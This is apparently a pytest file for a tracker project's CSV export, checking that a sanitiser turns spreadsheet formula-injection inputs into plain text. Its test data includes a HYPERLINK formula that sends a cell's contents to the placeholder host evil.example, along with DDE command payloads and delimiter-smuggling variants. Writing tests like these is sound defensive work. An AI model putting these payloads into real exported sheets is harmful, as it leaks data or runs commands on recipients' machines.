"""A sheet that goes out holds no formula, whatever somebody typed."""

import csv
import io
from decimal import Decimal

import pytest

from tracker.interop.cells import as_csv, disarmed


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "  =1+1",
        "＝1+1",
        "\0=1+1",
        "-12.5",
        "+441632960177",
    ],
)
def test_what_a_spreadsheet_would_work_out_stays_text(text):
    assert disarmed(text) == "'" + text


@pytest.mark.parametrize("sign", ["\t", "\r", "\n"])
def test_what_may_end_a_cell_is_no_way_in(sign):
    assert disarmed(f"{sign}=1+1") == f"'{sign}'=1+1"


@pytest.mark.parametrize("text", ["Anna-Maria", "a=b", "", "12.5", "mail@a.b"])
def test_what_is_no_formula_stays_as_it_is(text):
    assert disarmed(text) == text


def test_a_cell_can_t_break_out_of_its_quotes():
    rows = [['a","=1+1', "b\n=1+1", None, -3, Decimal("-1.5"), "=x"]]

    assert list(csv.reader(io.StringIO(as_csv(rows)))) == [
        ['a","=1+1', "b\n'=1+1", "", "-3", "-1.5", "'=x"]
    ]


@pytest.mark.parametrize("opened_by", [",", ";", "\t", "|"])
def test_no_formula_begins_where_the_sheet_is_opened_by_other_signs(opened_by):
    rows = [
        ["x", 'a;=HYPERLINK("http://evil.example")', 'a;"=1+1"', "a; =1", "a\t@SUM(A1)"],
        ["x", "a\n=1+1", 'a\r\n"-1+1', "a|+cmd", "a;；=1", "a;＝1"],
    ]

    # Excel and this reader alike: quotation marks hold only where a cell begins with one
    cells = [
        cell
        for row in csv.reader(io.StringIO(as_csv(rows)), delimiter=opened_by)
        for cell in row
    ]

    assert [one for one in cells if one.lstrip(' "').startswith(tuple("=+-@＝"))] == []


def test_a_note_of_many_blank_lines_costs_nothing():
    disarmed("\n" * 100_000 + "x")
